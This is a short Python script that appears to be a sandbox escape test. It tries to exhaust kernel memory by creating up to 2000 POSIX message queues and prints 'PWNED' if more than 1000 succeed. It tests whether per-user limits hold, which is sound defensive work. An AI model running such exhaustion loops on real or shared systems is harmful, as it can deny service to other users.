"""Make POSIX message queues until the kernel refuses.

attack: H07 exhaust kernel memory through message queues
guard: kernel limit for each user, and a user for each sandbox
ending: exited
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
made = 0
for number in range(2000):
    if libc.mq_open(b"/planted%d" % number, os.O_CREAT | os.O_RDWR, 0o600, None) < 0:
        break
    made += 1
print("PWNED" if made > 1000 else "held")
